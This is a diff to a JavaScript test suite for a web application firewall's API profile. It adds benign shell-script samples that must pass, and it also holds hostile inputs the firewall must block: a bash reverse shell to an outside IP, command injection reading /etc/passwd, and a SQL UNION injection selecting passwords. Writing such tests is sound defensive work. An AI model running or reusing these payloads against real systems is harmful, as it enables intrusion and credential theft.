@@ -568,6 +568,13 @@ describe('waf API profile: code fields, code samples in rich text, editor HTML (
       {
         sql: "SELECT country, SUM(amount) AS revenue\nFROM payments WHERE status = 'paid'\nGROUP BY country;",
       },
+      // A Gist's files are keyed by their names; a file object names itself, its path or its language.
+      { files: { 'deploy.sh': { content: 'for f in *.log; do\n  gzip "$f"\ndone | sort -n\n' } } },
+      {
+        title: 'Cleanup',
+        file_name: 'cleanup.sh',
+        content: 'for f in *.log; do\n  gzip "$f"\ndone | sort -n\n',
+      },
     ]) {
       assert.ok((await run(plain, doc)).error !== undefined, JSON.stringify(doc));
       assert.equal((await run(api, doc)).error, undefined, JSON.stringify(doc));
@@ -582,6 +589,8 @@ describe('waf API profile: code fields, code samples in rich text, editor HTML (
       { code: 'x=1\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n' },
       { comment: 'x=1\n; cat /etc/passwd\n' },
       { content: "a\n1' UNION SELECT password FROM users--" },
+      { files: { 'x.sh': { content: 'x=1\ncat /etc/passwd\n' } } },
+      { title: 'Notes', content: "a\n1' UNION SELECT password FROM users--" },
     ]) {
       assert.ok((await run(api, doc)).error !== undefined, JSON.stringify(doc));
     }
